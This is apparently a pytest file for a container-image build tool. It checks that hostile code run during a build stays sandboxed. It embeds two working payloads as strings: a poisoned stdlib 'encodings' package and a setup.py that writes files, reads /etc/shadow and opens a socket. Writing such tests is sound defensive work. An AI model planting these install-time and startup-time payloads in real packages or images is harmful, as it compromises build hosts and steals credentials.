"""Hostile code an app build runs: a base image whose interpreter runs code the moment it
starts (the build starts it to compile the project's bytecode), and a package whose
``setup.py`` runs when its wheel is built. Both run in the sandbox: they write nothing on
the host, read none of its files, and reach no server of the host's."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

from pydistroless.core.arch import host_arch
from pydistroless.fs.tree import Tree
from pydistroless.oci.archive import read_tar, write_tar
from pydistroless.oci.layer import layer_from_tree
from pydistroless.oci.model import platform_image
from pydistroless.oci.mutate import append
from pydistroless.oci.unpack import tree_of
from tests.fixtures.tools import describe, need_network, pydistroless

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"

# Run by the interpreter before anything else: `encodings` is imported at every start.
PAYLOAD = """\
import _io, _socket
try:
    with _io.open({marker!r}, "w") as note:
        note.write("the base image's code ran on the host")
except OSError:
    pass
try:
    _socket.create_connection(("127.0.0.1", {port}), 2).sendall(b"pwned")
except OSError:
    pass
raise SystemExit("a hostile encodings package")
"""


@contextlib.contextmanager
def host_server() -> Iterator[tuple[int, list[object]]]:
    """A server on the host's loopback, its port, and every connection it took."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    reached: list[object] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                reached.append(server.accept())
            except OSError:
                continue

    waiter = threading.Thread(target=accept)
    waiter.start()
    try:
        yield server.getsockname()[1], reached
    finally:
        time.sleep(0.5)  # a connection made at the end is still taken
        stop.set()
        waiter.join()
        server.close()


def test_a_hostile_base_writes_nothing_on_the_host(tmp_path: Path) -> None:
    need_network()
    base_tar = tmp_path / "base.tar"
    result = pydistroless("build", "-o", base_tar)
    assert result.returncode == 0, describe(result)
    base = platform_image(read_tar(base_tar), None, where=str(base_tar))
    version = base.labels["dev.pydistroless.python.version"]
    python = ".".join(version.split(".")[:2])

    marker = tmp_path / "written-by-the-base"
    with host_server() as (port, reached):
        hostile = Tree()
        stdlib = f"usr/lib/python{python}/encodings"
        hostile.add_file(f"{stdlib}/.wh.__init__.pyc", b"", 0o644)  # the compiled one removed
        payload = PAYLOAD.format(marker=str(marker), port=port)
        hostile.add_file(f"{stdlib}/__init__.py", payload.encode(), 0o644)
        image = append(base, [layer_from_tree(hostile, mtime=0, comment="hostile")], created=0)
        hostile_tar = tmp_path / "hostile.tar"
        write_tar(hostile_tar, image, tags=["hostile/python:1"])
        result = pydistroless(
            "app", EXAMPLES / "hello-world", "--base", hostile_tar, "-o", tmp_path / "app.tar"
        )
    assert not marker.exists(), "the base image's code wrote a file on the host"
    assert reached == [], "the base image's code reached a server on the host"
    # The build itself goes on: with no interpreter that starts, the app has no .pyc.
    assert result.returncode == 0, describe(result)
    assert f"no .pyc for the {host_arch()} image" in result.stderr, describe(result)


SETUP_PY = """\
import pathlib, socket
from setuptools import setup

seen = []
try:
    pathlib.Path({marker!r}).write_text("written by setup.py")
    seen.append("wrote on the host")
except OSError as exc:
    seen.append(f"write: {{exc.strerror}}")
try:
    seen.append("shadow: " + pathlib.Path("/etc/shadow").read_text()[:40])
except OSError as exc:
    seen.append(f"shadow: {{exc.strerror}}")
try:
    socket.create_connection(("127.0.0.1", {port}), 2).sendall(b"pwned")
    seen.append("reached the host")
except OSError as exc:
    seen.append(f"socket: {{exc.strerror}}")
pathlib.Path("evilpkg/_seen.py").write_text(f"SEEN = {{seen!r}}\\n")
setup(name="evilpkg", version="1.0", packages=["evilpkg"])
"""


def test_a_hostile_setup_py_writes_reads_and_reaches_nothing_of_the_host(tmp_path: Path) -> None:
    need_network()
    marker = tmp_path / "written-by-setup-py"
    project = tmp_path / "evil"
    (project / "evilpkg").mkdir(parents=True)
    (project / "evilpkg" / "__init__.py").write_text("")
    (project / "requirements.txt").write_text("")
    (project / "pyproject.toml").write_text(
        '[project]\nname = "evilpkg"\nversion = "1.0"\n\n'
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
    )
    with host_server() as (port, reached):
        (project / "setup.py").write_text(SETUP_PY.format(marker=str(marker), port=port))
        result = pydistroless("app", project, "-o", tmp_path / "app.tar")
    assert result.returncode == 0, describe(result)
    assert not marker.exists(), "setup.py wrote a file on the host"
    assert reached == [], "setup.py reached a server on the host"
    tree = tree_of(platform_image(read_tar(tmp_path / "app.tar"), None, where="the app"))
    seen = tree.read(next(e.path for e in tree.files() if e.path.endswith("evilpkg/_seen.py")))
    assert seen is not None
    text = seen.decode()
    assert "wrote on the host" not in text and "reached the host" not in text, text
    host_shadow = Path("/etc/shadow").read_text()[:40]
    assert host_shadow not in text, "setup.py read the host's /etc/shadow"
